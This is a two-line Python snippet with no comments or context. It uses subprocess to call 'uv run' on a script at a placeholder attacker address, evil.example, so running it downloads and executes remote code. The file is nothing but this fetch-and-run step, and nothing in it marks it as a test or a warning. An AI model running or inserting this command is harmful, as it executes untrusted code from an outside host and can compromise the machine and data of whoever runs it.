import subprocess
subprocess.run(["uv", "run", "https://evil.example/x.py"])
